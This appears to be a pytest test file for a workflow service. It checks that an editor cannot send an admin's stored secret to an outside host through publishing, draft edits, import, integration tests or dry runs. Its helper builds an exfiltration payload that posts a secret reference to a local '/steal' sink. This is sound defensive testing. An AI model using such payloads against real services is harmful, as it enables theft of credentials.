"""Who may make a secret's value leave the service (docs/security.md): runs of versions an
admin published, and integration tests an admin runs. An editor tries every route it has
to send an admin's secret to a host of its own, a real HTTP server on 127.0.0.1; each try
is refused or sends nothing, and the server never receives the value."""

import secrets
from typing import Any

import httpx
import pytest
from pytest_httpserver import HTTPServer

from app.models.tenant import Role
from app.resources import Resources
from app.settings import Settings
from tests.conftest import drain, key_for

VALUE = f"canary-{secrets.token_hex(8)}"


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return settings.model_copy(update={"http_allowed_hosts": ["127.0.0.1"], "delay_scale": 0.001})


@pytest.fixture
def sink(httpserver: HTTPServer) -> HTTPServer:
    httpserver.expect_request("/steal").respond_with_json({"ok": True})
    return httpserver


@pytest.fixture
async def editor(
    client: httpx.AsyncClient, resources: Resources
) -> httpx.AsyncClient:  # fmt: skip
    """An editor's client of the same app; the admin (``client``) has stored the secret."""
    stored = await client.put("/api/secrets/CANARY", json={"value": VALUE})
    assert stored.status_code == 201, stored.text
    key = await key_for(resources, "acme", Role.EDITOR)
    return httpx.AsyncClient(
        transport=client._transport, base_url=client.base_url,
        headers={"Authorization": f"Bearer {key}"},
    )  # fmt: skip


def stealing(sink: HTTPServer, workflow_id: str = "exfiltrate") -> dict[str, Any]:
    data = {"url": sink.url_for("/steal"), "json": {"stolen": {"$secret": "CANARY"}}}
    return {"workflow_id": workflow_id, "name": "n", "trigger": {"type": "go"},
            "actions": [{"id": "send", "type": "webhook_call", "data": data}]}  # fmt: skip


def harmless(sink: HTTPServer, workflow_id: str) -> dict[str, Any]:
    data = {"url": sink.url_for("/steal"), "json": {"hello": "world"}}
    return {"workflow_id": workflow_id, "name": "n", "trigger": {"type": "go"},
            "actions": [{"id": "send", "type": "webhook_call", "data": data}]}  # fmt: skip


def received(sink: HTTPServer) -> list[bytes]:
    return [request.get_data() for request, _ in sink.log]


async def test_an_editor_cannot_publish_a_version_that_uses_a_secret(
    editor: httpx.AsyncClient, sink: HTTPServer, settings: Settings
) -> None:
    refused = await editor.post("/api/workflows", json=stealing(sink))
    assert refused.status_code == 403
    error = refused.json()["error"]
    assert error["code"] == "forbidden"
    assert "Only an admin may publish a version that uses secrets (CANARY)" in error["message"]
    assert (await editor.get("/api/workflows/exfiltrate")).status_code == 404

    draft = await editor.post("/api/workflows", params={"publish": "false"}, json=stealing(sink))
    assert draft.status_code == 201, draft.text
    publish = await editor.post("/api/workflows/exfiltrate/versions/1/publish")
    assert publish.status_code == 403
    assert "Only an admin may publish" in publish.json()["error"]["message"]
    ran = await editor.post("/api/workflows/exfiltrate/run", json={})
    assert ran.status_code == 409  # no published version: nothing to run
    assert (await editor.post("/api/events", json={"type": "go"})).json()["run_ids"] == []
    await drain(settings)
    assert received(sink) == []


async def test_an_editor_cannot_slip_a_secret_into_an_admins_workflow(
    client: httpx.AsyncClient, editor: httpx.AsyncClient, sink: HTTPServer, settings: Settings
) -> None:
    assert (await client.post("/api/workflows", json=harmless(sink, "crm"))).status_code == 201
    changed = stealing(sink, "crm")
    refused = await editor.put("/api/workflows/crm", json=changed)
    assert refused.status_code == 403
    draft = await editor.put("/api/workflows/crm", params={"publish": "false"}, json=changed)
    assert draft.status_code == 200, draft.text
    # Run now runs the version an admin published, not the editor's draft.
    assert (await editor.post("/api/workflows/crm/run", json={})).status_code == 202
    imported = await editor.post("/api/workflows/import", json=[stealing(sink, "other")])
    (result,) = imported.json()["results"]
    assert (result["status"], result["error"]["code"]) == ("error", "forbidden")
    await drain(settings)
    assert received(sink) == [b'{"hello":"world"}']


async def test_an_editors_integration_test_may_not_use_a_secret(
    client: httpx.AsyncClient, editor: httpx.AsyncClient, sink: HTTPServer
) -> None:
    data = {"url": sink.url_for("/steal"), "json": {"stolen": {"$secret": "CANARY"}}}
    call = {"integration": "webhook", "action": "webhook_call", "data": data}
    refused = await editor.post("/api/integrations/test", json=call)
    assert refused.status_code == 403
    assert "This test would use secrets (CANARY)" in refused.json()["error"]["message"]
    data["json"] = {"hello": "world"}
    allowed = await editor.post("/api/integrations/test", json=call)
    assert allowed.json()["ok"] is True
    # The configuration's secrets count too: the editor's data chooses the host.
    config = {"config": {"signing_secret": {"$secret": "CANARY"}}}
    assert (await client.put("/api/integrations/webhook", json=config)).status_code == 201
    assert (await editor.post("/api/integrations/test", json=call)).status_code == 403
    assert received(sink) == [b'{"hello":"world"}']


async def test_an_editors_dry_run_shows_the_reference_never_the_value(
    editor: httpx.AsyncClient, sink: HTTPServer
) -> None:
    draft = await editor.post("/api/workflows", params={"publish": "false"}, json=stealing(sink))
    assert draft.status_code == 201
    tested = await editor.post("/api/workflows/exfiltrate/test", json={"event": {"type": "go"}})
    assert tested.status_code == 200, tested.text
    assert VALUE not in tested.text
    assert '"$secret":"CANARY"' in tested.text.replace(" ", "")
    assert received(sink) == []


async def test_an_admin_publishes_and_the_run_sends_the_value_where_the_version_says(
    client: httpx.AsyncClient, editor: httpx.AsyncClient, sink: HTTPServer, settings: Settings
) -> None:
    # The policy's other side, and proof the sink would have seen a leak.
    draft = await editor.post("/api/workflows", params={"publish": "false"}, json=stealing(sink))
    assert draft.status_code == 201
    assert (await client.post("/api/workflows/exfiltrate/versions/1/publish")).status_code == 200
    assert (await editor.post("/api/workflows/exfiltrate/run", json={})).status_code == 202
    await drain(settings)
    assert received(sink) == [b'{"stolen":"' + VALUE.encode() + b'"}']
